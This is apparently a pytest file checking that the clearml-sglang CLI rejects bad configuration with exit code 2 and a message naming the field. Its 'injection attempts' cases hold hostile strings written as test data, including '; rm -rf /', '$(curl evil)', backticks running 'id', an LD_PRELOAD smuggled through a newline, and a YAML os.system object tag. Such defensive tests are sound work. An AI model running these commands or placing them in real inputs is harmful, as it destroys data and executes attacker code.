"""Hostile and mistaken inputs: each gets exit code 2 and one message naming the field, never a traceback.

Every case goes through the real CLI (`clearml-sglang args`), from a config file, `--set` overrides or both, the
way a user's mistake would arrive.
"""

from __future__ import annotations

import psutil
import pytest

from tests.conftest import run_cli

M = "models.0.model=org/m"  # a valid model, so each case has exactly the problem it names

# name -> (config file text or None, --set overrides, text the message must name)
CASES: dict[str, tuple[str | bytes | None, list[str], str]] = {
    # wrong types
    "gpus as text": (None, [M, "models.0.gpus=two"], "models[0].gpus"),
    "gpus as a list": ("models: [{model: org/m, gpus: [1, 2]}]", [], "models[0].gpus"),
    "gpus as a fraction": (None, [M, "models.0.gpus=1.5"], "models[0].gpus"),
    "debug as a word": (None, [M, "general.debug=maybe"], "general.debug"),
    "replicas as a boolean": ("models: [{model: org/m, replicas: true}]", [], "models[0].replicas"),
    "idle hours as text": (None, [M, "idle.time_limit_hours=forever"], "idle.time_limit_hours"),
    "models as a number": ("models: 3", [], "models"),
    "a model as a number": ("models: [42]", [], "models[0]"),
    "general as a list": ("models: [{model: org/m}]\ngeneral: [1, 2]", [], "general"),
    "env as a list": ("models: [{model: org/m}]\nenv: [A, B]", [], "env"),
    "env value as a mapping": ("models: [{model: org/m}]\nenv: {A: {b: 1}}", [], "env.A"),
    "whole file a list": ("- model: org/m", [], "config"),
    "flag value of the wrong type": (None, [M, "general.max-running-requests=many"], "general.max-running-requests"),
    "store-true flag with a word": (None, [M, "general.trust-remote-code=sure"], "general.trust-remote-code"),
    "JSON flag with broken JSON": (None, [M, "models.0.preferred-sampling-params={oops"],
                                   "models[0].preferred-sampling-params"),
    "choice outside SGLang's list": (None, [M, "general.schedule-policy=fastest"], "general.schedule-policy"),
    "device outside the choices": (None, [M, "general.device=tpu"], "general.device"),
    "log level SGLang does not know": (None, [M, "general.log-level=verbose"], "general.log-level"),
    # negative and absurd numbers
    "zero GPUs": (None, [M, "models.0.gpus=0"], "models[0].gpus"),
    "negative GPUs": (None, [M, "models.0.gpus=-2"], "models[0].gpus"),
    "a million GPUs": (None, [M, "models.0.gpus=1000000"], "models[0].gpus"),
    "negative idle limit": (None, [M, "idle.time_limit_hours=-1"], "idle.time_limit_hours"),
    "report interval zero": (None, [M, "idle.report_interval_seconds=0"], "idle.report_interval_seconds"),
    "NaN max CUDA memory": (None, [M, "general.max_cuda_memory_gib=nan"], "general.max_cuda_memory_gib"),
    "infinite max CUDA memory": (None, [M, "general.max_cuda_memory_gib=inf"], "general.max_cuda_memory_gib"),
    "negative running requests": (None, [M, "general.max-running-requests=-5"], "general.max-running-requests"),
    "huge integer": (None, [M, "models.0.max-total-tokens=" + "9" * 25], "models[0].max-total-tokens"),
    "max LoRAs absurd": (None, [M, "models.0.lora.max_loras=99999999"], "models[0].lora.max_loras"),
    "replicas absurd": (None, [M, "models.0.replicas=100000"], "models[0].replicas"),
    # unknown and misspelled keys and flags
    "misspelled SGLang flag": (None, [M, "general.max-runing-requests=4"], "general.max-runing-requests"),
    "snake_case SGLang flag": (None, [M, "general.max_running_requests=4"], "general.max_running_requests"),
    "unknown app key": (None, [M, "idle.time_limit=3"], "idle.time_limit"),
    "unknown section": ("models: [{model: org/m}]\ngenral: {debug: true}", [], "genral"),
    "unknown --set section": (None, [M, "genral.debug=true"], "genral"),
    "flag alias instead of its name": (None, [M, "models.0.tensor-parallel-size=2"], "models[0].tensor-parallel-size"),
    "a name that is no flag": (None, [M, "models.0.tp=2"], "models[0].tp"),
    "flag the app owns": (None, [M, "general.port=9000"], "general.port"),
    "API key flag": (None, [M, "general.api-key=abc"], "general.api-key"),
    "metrics turned off": (None, [M, "general.enable-metrics=false"], "general.enable-metrics"),
    "unknown flag in CLI": (None, [M, "models.0.cli=--tensor-paralel-size 2"], "models[0].cli"),
    "abbreviated flag in CLI": (None, [M, "models.0.cli=--max-running 2"], "models[0].cli"),
    "CLI flag without its value": (None, [M, "models.0.cli=--context-length"], "models[0].cli"),
    "CLI sets the port": (None, [M, "models.0.cli=--port 1234"], "models[0].cli"),
    "CLI with an unclosed quote": (None, [M, "models.0.cli=--chat-template 'x"], "models[0].cli"),
    "CLI flag given twice": (None, [M, "models.0.cli=--tp-size 2 --tp-size 4"], "models[0].cli"),
    # LoRA modules
    "module without =": (None, [M, "models.0.lora.enable=true", "models.0.lora.modules=sql"],
                         "models[0].lora.modules[0]"),
    "module with empty path": (None, [M, "models.0.lora.enable=true", "models.0.lora.modules=sql="],
                               "models[0].lora.modules[0]"),
    "module name with a colon": (None, [M, "models.0.lora.enable=true", "models.0.lora.modules=a:b=org/x"],
                                 "models[0].lora.modules[0]"),
    "module name twice": (None, [M, "models.0.lora.enable=true", "models.0.lora.modules=a=org/x,a=org/y"],
                          "models[0].lora.modules[1]"),
    "Max CPU LoRAs below Max LoRAs": (None, [M, "models.0.lora.enable=true", "models.0.lora.modules=a=org/x",
                                             "models.0.lora.max_loras=4", "models.0.lora.max_cpu_loras=2"],
                                      "models[0].lora.max_cpu_loras"),
    "LoRA dtype SGLang cannot honour": (None, [M, "models.0.lora.dtype=float16"], "models[0].lora.dtype"),
    "LoRA extra vocabulary": (None, [M, "models.0.lora.extra_vocab_size=256"], "models[0].lora.extra_vocab_size"),
    "LoRA on without anything to load": (None, [M, "models.0.lora.enable=true"], "models[0].lora.modules"),
    # duplicates and conflicts
    "duplicate endpoint names": (None, [M, "models.0.endpoint_name=a", "models.1.model=org/n",
                                        "models.1.endpoint_name=a"], "models[1].endpoint_name"),
    "same model twice": (None, [M, "models.1.model=org/m"], "models[1].endpoint_name"),
    "CPU offloading with disk swapping": (None, [M, "general.auto_cpu_offload=true", "general.disk_swap=true"],
                                          "general.disk_swap"),
    "memory manager threshold": (None, [M, "general.cuda_memory_threshold_kb=66000"],
                                 "general.cuda_memory_threshold_kb"),
    "disk swapping on CPU": (None, [M, "general.device=cpu", "general.disk_swap=true"], "general.disk_swap"),
    "CPU offloading on CPU": (None, [M, "general.device=cpu", "general.auto_cpu_offload=true"],
                              "general.auto_cpu_offload"),
    "memory saver in a raw CLI on CPU": (None, [M, "general.device=cpu", "models.0.cli=--enable-memory-saver"],
                                         "models[0].cli"),
    "CPU offload in a raw CLI on CPU": (None, [M, "general.device=cpu", "models.0.cli=--cpu-offload-gb 4"],
                                        "models[0].cli"),
    "a wake-up deadline of zero": (None, [M, "general.wake_deadline_seconds=0"], "general.wake_deadline_seconds"),
    "a negative sleep threshold": (None, [M, "general.sleep_after_idle_seconds=-5"],
                                   "general.sleep_after_idle_seconds"),
    "two models spanning nodes": (None, [M, "models.0.nodes=2", "models.1.model=org/n", "models.1.nodes=2"],
                                  "models[1].nodes"),
    "nodes with replicas": (None, [M, "models.0.nodes=2", "models.0.replicas=2"], "models[0].replicas"),
    "nodes with a raw CLI": (None, [M, "models.0.nodes=2", "models.0.cli=--tp-size 2"], "models[0].nodes"),
    "more nodes than ClearML can launch here": (None, [M, "models.0.nodes=65"], "models[0].nodes"),
    "endpoint name with a slash": (None, [M, "models.0.endpoint_name=a/b"], "models[0].endpoint_name"),
    "endpoint name shadowing a route": (None, [M, "models.0.endpoint_name=v1"], "models[0].endpoint_name"),
    "CLI name differs from endpoint name": (None, [M, "models.0.endpoint_name=a",
                                                   "models.0.cli=--served-model-name b"], "models[0].cli"),
    # injection attempts
    "shell separator in CLI": (None, [M, "models.0.cli=--tp-size 1 ; rm -rf /"], "models[0].cli"),
    "command substitution in CLI": (None, [M, "models.0.cli=--chat-template $(curl evil)"], "models[0].cli"),
    "backticks in CLI": (None, [M, "models.0.cli=--chat-template `id`"], "models[0].cli"),
    "newline in env value": ("models: [{model: org/m}]\nenv: {A: \"x\\nLD_PRELOAD=/tmp/e.so\"}", [], "env.A"),
    "env name with a space": ("models: [{model: org/m}]\nenv: {'A B': x}", [], "env.A B"),
    "env name with =": ("models: [{model: org/m}]\nenv: {'A=B': x}", [], "env.A=B"),
    "env that the app owns": (None, [M, "env.CUDA_VISIBLE_DEVICES=0"], "env.CUDA_VISIBLE_DEVICES"),
    "NUL in a flag value": ("models: [{model: org/m, chat-template: \"a\\0b\"}]", [], "models[0].chat-template"),
    "model with spaces and a flag": (None, ["models.0.model=org/m --trust-remote-code"], "models[0].model"),
    "YAML object tag": ("models: !!python/object/apply:os.system ['id']", [], "config file"),
    # empty, missing, malformed files
    "no model at all": ("instance: {name: x}", [], "models"),
    "empty model": (None, ["models.0.model="], "models[0].model"),
    "empty file": ("", [], "models"),
    "model missing its name": ("models: [{gpus: 1}]", [], "models[0].model"),
    "instance name empty": (None, [M, "instance.name="], "instance.name"),
    "broken YAML": ("models: [model: x", [], "config file"),
    "non-UTF-8 file": (b"models:\n  - model: org/\xff\xfe\n", [], "config file"),
    "--set without =": (None, [M, "general.debug"], "--set"),
    "--set skipping a model number": (None, [M, "models.5.model=org/x"], "--set"),
    # huge values
    "huge CLI": (None, [M, "models.0.cli=--chat-template " + "x" * 70000], "models[0].cli"),
    "huge env value": ("models: [{model: org/m}]\nenv: {A: " + "y" * 70000 + "}", [], "env.A"),
    "too many models": ("models: [" + ", ".join(f"{{model: org/m{i}}}" for i in range(65)) + "]", [], "models"),
    "short access token": (None, [M, "auth.tokens=short"], "auth.tokens[0]"),
    "non-UTF-8 in --set": (None, [M, "instance.name=caf\udce9"], "instance.name"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_input_gets_exit_2_and_names_the_field(case, tmp_path):
    text, overrides, field = CASES[case]
    argv = ["args"]
    if text is not None:
        path = tmp_path / "deploy.yaml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        argv += ["--config", str(path)]
    for override in overrides:
        argv += ["--set", override]

    result = run_cli(*argv)

    assert result.code == 2, result.out
    assert result.out == ""  # nothing printed as if it were a valid command line
    assert "Traceback" not in result.err
    first_line = result.err.splitlines()[0]
    assert first_line.startswith("invalid configuration")
    assert field in result.err, result.err
    assert psutil.Process().children() == []  # nothing launched


def test_corpus_is_large_enough():
    assert len(CASES) >= 50


def test_every_problem_is_reported_at_once():
    result = run_cli("args", "--set", M, "--set", "models.0.gpus=0", "--set", "general.debug=maybe",
                     "--set", "idle.report_interval_seconds=0", "--set", "general.max-runing-requests=3")
    assert result.code == 2
    for field in ("models[0].gpus", "general.debug", "idle.report_interval_seconds", "general.max-runing-requests"):
        assert field in result.err
    assert result.err.startswith("invalid configuration (4 problems):")


def test_messages_say_the_fix():
    result = run_cli("args", "--set", M, "--set", "general.max-runing-requests=3")
    assert "did you mean max-running-requests?" in result.err
    result = run_cli("args", "--set", M, "--set", "models.0.cli=--max-runing-requests 3")
    assert "did you mean --max-running-requests?" in result.err
    result = run_cli("args", "--set", M, "--set", "general.auto_cpu_offload=true", "--set", "general.disk_swap=true")
    assert "choose one" in result.err
